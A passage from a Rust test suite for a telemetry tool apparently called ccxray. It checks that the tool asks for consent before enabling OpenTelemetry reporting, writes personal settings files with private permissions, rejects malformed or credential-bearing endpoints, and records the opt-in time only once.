    let after = "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 2,\n\t\t\"identity\": \"me\",\n\t\t\"opt_in_acknowledged_at\": \"2027-01-15T08:00:00Z\"\n\t},\n\t\"ports\": [1,  2]\n}";
    assert_eq!(run(0), after);
    assert_eq!(run(60), after, "the first time is kept");
}

#[test]
fn init_asks_before_it_approves_older_settings() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let env = [("CCXRAY_OTEL_TIER", "1")];
    let run = |yes| {
        let plan = InitPlan { yes, ..named(PersonalPlace::Home, false) };
        init(&disk.0.join("project"), &disk.environment(&env), &plan, now()).unwrap()
    };
    let asked = run(false);
    assert_eq!(
        disk.without_root(&asked.asks.join("; ")),
        "The project in ~/project asks for:\n  Send: anonymous numbers (tier 1)\n  To: https://otlp.example\n  How often: in each interval, so the receiver sees when you work\n  Never sent: prompts, code, file names."
    );
    assert!(asked.consent.is_none() && !disk.0.join("home/.ccxray.user.json").exists());
    assert!(run(true).consent.is_some());
    assert_eq!(run(false).asks, Vec::<String>::new());
}

#[test]
fn init_writes_files_with_the_right_permissions() {
    let disk = repository();
    for file in [".ccxray.json", ".ccxray.user.json"] {
        fs::remove_file(disk.0.join("project").join(file)).unwrap();
    }
    let endpoint = Some("http://127.0.0.1:9".to_owned());
    let project = ProjectPlan { tier: Some(Level::Named), endpoint, ..ProjectPlan::default() };
    let plan = InitPlan { project: Some(project), ..named(PersonalPlace::Project, true) };
    init(&disk.0.join("project"), &disk.environment(&[]), &plan, now()).unwrap();
    let mode = |file| fs::metadata(disk.0.join("project").join(file)).unwrap().permissions().mode();
    let usual = {
        fs::write(disk.0.join("usual"), "").unwrap();
        fs::metadata(disk.0.join("usual")).unwrap().permissions().mode()
    };
    let modes = [".ccxray.json", ".gitignore", ".ccxray.user.json"].map(mode);
    assert_eq!(modes, [usual, usual, 0o100_600]);
}

#[test]
fn init_refuses_an_endpoint_that_cannot_work() {
    let disk = Disk::new();
    let endpoints = [None, Some("https://me:hunter2@otlp.example"), Some("nonsense"), Some("")];
    for endpoint in endpoints.map(|endpoint| endpoint.map(str::to_owned)) {
        let project =
            ProjectPlan { tier: Some(Level::Anonymous), endpoint, ..ProjectPlan::default() };
        let plan = InitPlan { project: Some(project), ..InitPlan::default() };
        assert!(init(&disk.0.join("project"), &disk.environment(&[]), &plan, now()).is_err());
        assert!(!disk.0.join("project/.ccxray.json").exists());
    }
}

#[test]
fn an_approval_writes_when_tier_two_was_first_chosen() {
    let own = r#"{ "otel": { "tier": 2, "identity": "ada" } } // mine"#;
    let disk = Disk::new()
        .write("project/.ccxray.json", r#"{"otel":{"endpoint":"https://otlp.example"}}"#)
        .write("home/.ccxray.user.json", own);
    let approve = || {
        let now = SystemTime::UNIX_EPOCH + Duration::from_hours(491_625);
        approve(&disk.0.join("project"), &disk.environment(&[]), None, now).unwrap();
        fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap()
    };
    let first = approve();
    assert!(first.contains(r#""opt_in_acknowledged_at": "2026-01-31T09:00:00Z""#), "{first}");
    assert!(first.ends_with("// mine"), "{first}");
    assert_eq!(approve(), first, "only once");
}
